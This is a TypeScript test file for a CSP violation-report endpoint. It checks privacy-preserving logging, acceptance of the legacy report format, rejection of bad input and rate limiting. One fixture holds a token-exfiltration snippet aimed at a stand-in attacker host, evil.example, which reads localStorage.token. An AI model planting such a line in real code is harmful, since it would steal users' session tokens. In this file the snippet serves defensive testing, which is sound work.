// CSP reports: logged without personal data.
import { beforeEach, expect, it } from 'vitest';
import { createLog } from '#server/platform/log.ts';
import { shareStack } from '../../support/database/empty.ts';
import { send } from '../../support/service/send.ts';

const stack = shareStack({ settings: { RATE_LIMITS: 'on' } });
let lines: string[];
beforeEach(async () => {
  lines = [];
  stack.ctx.log = createLog('warn', { write: (line: string) => lines.push(line) });
});

const MODERN = 'application/reports+json';
const tell = (body: unknown, type = MODERN) =>
  send(stack, 'POST', '/api/reports', { body, headers: { 'Content-Type': type } });
const violation = (documentURL = 'https://shop.example/profile?email=ada@example.com') => ({
  type: 'csp-violation',
  body: {
    documentURL,
    effectiveDirective: 'script-src-elem',
    blockedURL: 'https://evil.example/x.js?who=ada',
    sample: 'fetch("https://evil.example/?" + localStorage.token)',
  },
});

it('is logged in one line: which rule, on which page, from where', async () => {
  expect((await tell([violation()])).status).toBe(204);
  expect(lines).toHaveLength(1);
  expect(JSON.parse(lines[0] ?? '')).toMatchObject({
    directive: 'script-src-elem',
    page: 'https://shop.example/profile',
    blocked: 'https://evil.example/x.js',
  });
  expect(lines[0]).not.toMatch(/ada|localStorage/);
});

it('is read in its older format too', async () => {
  const report = {
    'document-uri': 'https://shop.example/',
    'effective-directive': 'img-src',
    'blocked-uri': 'inline',
  };
  expect((await tell({ 'csp-report': report }, 'application/csp-report')).status).toBe(204);
  expect(JSON.parse(lines[0] ?? '')).toMatchObject({ directive: 'img-src', blocked: 'inline' });
});

it.each([
  ['no JSON', '{', MODERN, 400],
  ['another type', [violation()], 'application/json', 415],
  ['nothing at all', 'null', MODERN, 204],
  ['something else', [{ type: 'deprecation' }, 7, null], MODERN, 204],
  ['64 kB and more', `[${'"x",'.repeat(20_000)}1]`, MODERN, 413],
] as const)('%s logs nothing', async (_, body, type, status) => {
  expect((await tell(body, type)).status).toBe(status);
  expect(lines).toEqual([]);
});

it('floods neither the log nor the service', async () => {
  expect((await tell(Array.from({ length: 50 }, () => violation()))).status).toBe(204);
  expect(lines).toHaveLength(5);
  const more = await Promise.all(Array.from({ length: 15 }, () => tell([violation()])));
  expect(more.filter(({ status }) => status === 429)).toHaveLength(6);
});
